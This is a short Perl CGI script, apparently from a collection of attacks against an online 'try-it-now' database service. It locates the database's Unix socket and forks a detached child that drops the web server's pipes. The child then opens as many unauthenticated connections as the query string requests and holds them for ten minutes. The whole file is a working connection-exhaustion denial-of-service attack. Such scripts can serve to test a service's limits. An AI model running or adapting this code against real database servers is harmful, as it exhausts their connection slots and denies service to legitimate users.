#!/usr/bin/perl
# Connects to the database server as often as QUERY_STRING says, logs in on none of the connections, and keeps them for
# ten minutes, whatever the server closes meanwhile. It has answered before.
require '/attacks/system-calls.pl';

my ($AF_UNIX, $SOCK_STREAM, $folder) = (1, 1, '/run/try-it-now/database');
opendir my $listing, $folder or die "$folder: $!";
my ($path) = grep { -S } map { "$folder/$_" } readdir $listing;
die "$folder has no socket" unless defined $path;

my $keeper = fork // die "fork: $!";
if (!$keeper) {
  # The web server waits until nobody holds its pipe.
  close $_ for *STDIN, *STDOUT, *STDERR;
  my @kept;
  for (1 .. $ENV{QUERY_STRING}) {
    socket my $each, $AF_UNIX, $SOCK_STREAM, 0 or last;
    push @kept, $each if connect $each, pack 'S a*', $AF_UNIX, "$path\0";
  }
  sleep 600;
  exit 0;
}
print "connecting\n";
